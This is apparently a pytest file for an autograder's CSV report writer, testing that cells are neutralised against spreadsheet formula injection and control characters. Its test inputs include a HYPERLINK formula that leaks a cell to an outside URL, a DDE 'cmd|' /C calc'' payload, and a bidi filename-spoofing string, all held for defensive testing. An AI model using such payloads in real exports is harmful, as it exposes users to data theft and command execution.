"""The CSVs `course grade` writes: safe to open in a spreadsheet, readable by csv and
pandas, and readable back by the next run however large an earlier run's cells were."""

import csv

import pandas
import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder.grading import records, report
from autograder.grading.report import CHECKS, MAX_CELL, SUBMISSIONS, Scope, safe_cell
from autograder.sandbox.printable import TRUNCATED

# OWASP's list: a cell starting with one of these is a formula to a spreadsheet.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SEPARATORS = ',;\t\r\n"'


def cells_a_spreadsheet_could_start(text):
    """Every part of `text` that a spreadsheet splitting on any separator might start a
    cell with."""
    for separator in SEPARATORS:
        text = text.replace(separator, "\n")
    return [text, *text.split("\n")]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("https://example.org/?"&A1,"see")', "'=HYPERLINK(\"https://"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "\ufffd=1"),  # a carriage return is a control character: replaced
        ("ok; =1+1", "ok; =1+1"),  # a space first: no spreadsheet reads a formula
        ("ok;=1+1", "ok;'=1+1"),
        ("line\n-1", "line\n'-1"),
        ("softmax([1000, 0]) returned nan", "softmax([1000, 0]) returned nan"),
        ("'=already", "'=already"),
        ("nul\x00 and escape \x1b[31m", "nul\ufffd and escape \ufffd[31m"),
        ("bidi \u202egnp.exe", "bidi \ufffdgnp.exe"),
        ("français, 中文", "français, 中文"),
    ],
)
def test_a_text_cell_is_neutralised(value, expected):
    assert safe_cell("message", value).startswith(expected)


@pytest.mark.parametrize("value", ["-1.5", "0", "2", "1e-05", "-inf", "nan", "3735928559"])
def test_numbers_stay_numbers_in_numeric_columns(value):
    for column in report.NUMERIC:
        assert safe_cell(column, value) == value
    assert safe_cell("message", value) in (value, "'" + value)


def test_a_formula_in_a_numeric_column_is_neutralised():
    assert safe_cell("score", "-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0"


def test_a_long_cell_is_cut_visibly():
    cell = safe_cell("message", "x" * 300_000)
    assert len(cell) == MAX_CELL
    assert cell.endswith(TRUNCATED)


@given(st.text(max_size=3 * MAX_CELL // 2))
def test_no_cell_can_start_a_formula_and_every_cell_is_stable(value):
    cell = safe_cell("message", value)
    assert len(cell) <= MAX_CELL
    assert not [
        part for part in cells_a_spreadsheet_could_start(cell) if part.startswith(FORMULA_STARTS)
    ]
    assert safe_cell("message", cell) == cell  # rows kept from a run are written back as they were
    assert all(c.isprintable() or c in "\n\t" for c in cell)


HOSTILE = [
    '=HYPERLINK("https://example.org/?"&A1,"see")',
    "x" * 300_000,
    'quotes " and , commas; and\nlines\r\n',
    "nul \x00, escape \x1b[2J, bidi \u202e, surrogate \udcff",
    "-3",
    "[/bold] [link=https://example.org]markup[/link]",
]


def hostile_rows():
    return [
        {
            **dict.fromkeys(CHECKS, ""),
            "student_id": f"s{i}",
            "lesson": "lesson-02",
            "grade_id": "softmax",
            "function": "softmax",
            "score": "-1.5" if i == 0 else "0",
            "max_score": "2",
            "status": "error",
            "message": message,
        }
        for i, message in enumerate(HOSTILE)
    ]


def test_the_csvs_read_the_same_in_csv_and_pandas(tmp_path):
    path = tmp_path / "checks.csv"
    report.update_csv(path, CHECKS, hostile_rows(), Scope({"lesson-02"}))
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [row["message"] for row in rows] == [safe_cell("message", m) for m in HOSTILE]
    frame = pandas.read_csv(path, dtype=str, keep_default_na=False)
    assert frame.to_dict("records") == rows
    numbers = pandas.read_csv(path)
    assert numbers["score"].dtype == "float64" and numbers["score"].min() == -1.5


def test_writing_again_changes_nothing(tmp_path):
    """A run that keeps the rows outside its scope writes them back byte for byte."""
    path = tmp_path / "checks.csv"
    report.update_csv(path, CHECKS, hostile_rows(), Scope({"lesson-02"}))
    before = path.read_bytes()
    report.update_csv(path, CHECKS, [], Scope({"lesson-03"}))
    assert path.read_bytes() == before


def test_a_huge_cell_an_earlier_version_wrote_reads_back(tmp_path):
    """csv refuses cells over 128 kB by default: every later run would have failed."""
    path = tmp_path / "checks.csv"
    # errors="replace": the surrogate in HOSTILE would have stopped that version's write.
    with path.open("w", newline="", encoding="utf-8", errors="replace") as f:
        writer = csv.DictWriter(f, CHECKS)
        writer.writeheader()
        writer.writerows(hostile_rows())  # unneutralised, uncapped, as before
    assert len(report.read_csv(path)[1]["message"]) == 300_000
    report.update_csv(path, CHECKS, [], Scope({"lesson-03"}))
    assert all(len(row["message"]) <= MAX_CELL for row in report.read_csv(path))


def test_rejected_entries_are_relisted_by_every_run(tmp_path):
    """Their rows belong to no student, so every run, whatever its scope, replaces them."""
    path = tmp_path / "submissions.csv"
    row = {**dict.fromkeys(SUBMISSIONS, ""), "student_id": f"{records.REJECTED}0123456789ab"}
    report.update_csv(path, SUBMISSIONS, [row], Scope({"lesson-01"}))
    report.update_csv(path, SUBMISSIONS, [row], Scope({"lesson-02"}, {"ada"}))
    assert len(report.read_csv(path)) == 1


def test_the_summary_shows_markup_as_typed(tmp_path, capsys):
    """Rich markup in a message ("[/bold]" closes nothing) once stopped the summary."""
    report.update_csv(tmp_path / "checks.csv", CHECKS, hostile_rows(), Scope({"lesson-02"}))
    report.summary(tmp_path, say=print)
    assert "[/bold]" in capsys.readouterr().out
